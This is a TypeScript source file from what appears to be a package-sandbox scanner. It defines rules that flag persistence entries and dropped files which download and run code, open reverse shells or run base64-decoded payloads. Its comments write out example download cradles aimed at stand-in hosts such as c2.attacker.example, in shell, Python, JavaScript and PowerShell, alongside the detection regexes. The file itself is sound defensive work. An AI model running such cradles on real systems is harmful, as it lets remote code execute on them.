import type { CapturedContent, Severity } from '@vetbox/contracts';
import type { Draft, RuleContext } from '../context.js';
import { DECODE_AND_RUN, PIPE_DOWNLOAD_TO_RUNNER, REVERSE_SHELL_TEXT } from './execution.js';

/** What a captured file's content does, with the line that shows it. */
interface ContentHit {
  kind: 'cradle' | 'reverse-shell' | 'encoded';
  why: string;
  line: string;
}

/** Code that fetches code and runs it, in any of the languages a persistence entry may hold. */
const CRADLES: Array<{ re: RegExp; why: string }> = [
  // curl -fsSL http://c2.attacker.example/x | sh ; wget -qO- http://198.51.100.7/s | bash
  { re: PIPE_DOWNLOAD_TO_RUNNER, why: 'downloads a script and pipes it to an interpreter' },
  // bash -c "$(curl -fsSL http://c2.attacker.example/x)" ; bash <(wget -qO- http://c2.attacker.example/x)
  { re: /\b(ba|da|z)?sh\s+(-c\s+["']?\$\(|<\()\s*(curl|wget)\b/, why: 'runs the output of a download as a shell script' },
  // curl -o /tmp/.u http://c2.attacker.example/u && chmod +x /tmp/.u && /tmp/.u
  { re: /\b(curl|wget)\b[^\n]*(&&|;)\s*(chmod\s+\+?[0-7x]+\s+\S+\s*(&&|;)\s*)?((ba|da|z)?sh\s+|python[\d.]*\s+|node\s+|\.?\/)\S/, why: 'downloads a file and runs it' },
  // exec(urllib.request.urlopen("http://c2.attacker.example/x").read())
  { re: /\b(exec|eval)\s*\(\s*([\w.]*\.)?urlopen\s*\(|\b(exec|eval)\s*\([^)\n]*\b(requests|httpx|urllib3?)\.(get|request|urlopen)\b/, why: 'Python runs code it downloads' },
  // eval(await (await fetch("http://c2.attacker.example/x")).text()) ; new Function(body) after https.get
  { re: /\beval\s*\([^\n]*\b(fetch|https?\.get|axios)\b|\bnew\s+Function\s*\([^\n]*\bfetch\b|\b(fetch|https?\.get)\b[^\n]*\beval\s*\(/, why: 'JavaScript evaluates code it downloads' },
  // IEX (New-Object Net.WebClient).DownloadString('http://c2.attacker.example/x')
  { re: /\b(IEX|Invoke-Expression)\b[^\n]{0,200}\b(DownloadString|Invoke-WebRequest|iwr)\b|\b(DownloadString|iwr)\b[^\n]{0,200}\|\s*(IEX|Invoke-Expression)\b/i, why: 'PowerShell runs a downloaded script' },
];

/** Code hidden in an encoding and run as it is decoded. */
const ENCODED: Array<{ re: RegExp; why: string }> = [
  // echo ZWNobyBoaQ== | base64 -d | sh
  { re: DECODE_AND_RUN, why: 'decodes hidden text and pipes it to an interpreter' },
  // exec(base64.b64decode("aW1wb3J0IG9z..."))
  { re: /\b(exec|eval)\s*\(\s*(base64\.b(64|32|16|85)decode|zlib\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex)\b/, why: 'Python runs code it decodes' },
  // eval(Buffer.from("Y29uc3Qg...", "base64").toString())
  { re: /\beval\s*\(\s*(Buffer\.from\([^)\n]*["'](base64|hex)["']|atob\s*\()/, why: 'JavaScript evaluates code it decodes' },
];

const LONG_BASE64 = /[A-Za-z0-9+/]{80,}={0,2}/g;
/** Multi-line patterns are tried over the whole text only up to this size (regex cost). */
const WHOLE_TEXT_MAX = 8 * 1024;

function text(c: CapturedContent): string {
  return c.encoding === 'utf8' ? c.content : '';
}

function firstHit(body: string, patterns: ReadonlyArray<{ re: RegExp; why: string }>, kind: ContentHit['kind']): ContentHit | undefined {
  const lines = body.split('\n');
  for (const { re, why } of patterns) {
    const line = lines.find((l) => re.test(l));
    if (line !== undefined) return { kind, why, line };
    if (body.length <= WHOLE_TEXT_MAX && re.test(body)) return { kind, why, line: lines.find((l) => l.trim() !== '') ?? '' };
  }
  return undefined;
}

/** What the content does: a reverse shell, a download cradle or a decoded payload; base64 blobs are opened once. */
export function contentHit(body: string, depth = 0): ContentHit | undefined {
  const direct = firstHit(body, REVERSE_SHELL_TEXT, 'reverse-shell') ?? firstHit(body, CRADLES, 'cradle') ?? firstHit(body, ENCODED, 'encoded');
  if (direct || depth > 0) return direct;
  for (const blob of (body.match(LONG_BASE64) ?? []).slice(0, 20)) {
    const decoded = Buffer.from(blob, 'base64').toString('utf8');
    const inner = contentHit(decoded, depth + 1);
    if (inner) return { kind: inner.kind === 'reverse-shell' ? 'reverse-shell' : 'encoded', why: `hides in base64 code that ${inner.why}`, line: body.split('\n').find((l) => l.includes(blob)) ?? blob };
  }
  return undefined;
}

const escaped = (line: string): string => JSON.stringify(line.trim().slice(0, 200));

/** persistence-cradle: a persistence entry whose content fetches and runs code, or hides it. */
export function persistenceCradle(ctx: RuleContext): Draft[] {
  const drafts: Draft[] = [];
  // One finding per entry and kind: the idle phase's second install rewrites the same entry, and
  // the phase that first wrote it is the one to name.
  const seen = new Set<string>();
  (ctx.behavior.contents ?? []).forEach((c, index) => {
    if (c.reason !== 'persistence') return;
    const hit = contentHit(text(c));
    if (!hit || seen.has(`${c.path}\u0000${hit.kind}`)) return;
    seen.add(`${c.path}\u0000${hit.kind}`);
    const shown = ctx.displayPath(c.path);
    drafts.push({
      rule: 'persistence-cradle',
      severity: 'critical',
      phase: c.phase,
      title: `${shown} runs ${hit.kind === 'reverse-shell' ? 'a reverse shell' : hit.kind === 'cradle' ? 'downloaded code' : 'hidden code'} at every start`,
      detail: `Written during ${c.phase}, ${shown} ${hit.why}: ${escaped(hit.line)}.`,
      evidence: [{ kind: 'content', index, summary: `${shown} (written during ${c.phase}): ${escaped(hit.line)}`, key: `content:${ctx.stable(c.path)}:${hit.kind}` }],
    });
  });
  return drafts;
}

const FOREIGN: Record<string, string> = { pe: 'a Windows executable (PE)', macho: 'a macOS executable (Mach-O)' };

/**
 * dropped-payload: a script the package dropped outside its install that fetches and runs code,
 * opens a reverse shell or hides code; or an executable for another platform it tried to run.
 */
export function droppedPayload(ctx: RuleContext): Draft[] {
  const drafts: Draft[] = [];
  const execAttempts = new Set(ctx.behavior.files.filter((f) => f.op === 'exec' && ctx.isPackagePid(f.pid)).map((f) => ctx.absolute(f.path, f.pid)));
  (ctx.behavior.contents ?? []).forEach((c, index) => {
    if (c.reason === 'persistence') return;
    const shown = ctx.displayPath(c.path);
    const hit = contentHit(text(c));
    let severity: Severity | undefined;
    let what: string | undefined;
    if (hit) {
      severity = hit.kind === 'reverse-shell' ? 'critical' : 'high';
      what = `${hit.why}: ${escaped(hit.line)}`;
    } else if (FOREIGN[c.format] && execAttempts.has(c.path)) {
      severity = 'high';
      what = `is ${FOREIGN[c.format]}, and package code tried to run it on Linux`;
    }
    if (!severity || !what) return;
    drafts.push({
      rule: 'dropped-payload',
      severity,
      phase: c.phase,
      title: `Dropped ${shown}, which ${hit ? hit.why : `is ${FOREIGN[c.format]}`}`,
      detail: `${shown}, written during ${c.phase} (${c.size} bytes, sha256 ${c.sha256.slice(0, 16) || 'not computed'}…), ${what}.`,
      evidence: [{ kind: 'content', index, summary: `${shown} (${c.format}, written during ${c.phase}) ${what}`, key: `content:${ctx.stable(c.path)}:${hit?.kind ?? c.format}` }],
    });
  });
  return drafts;
}
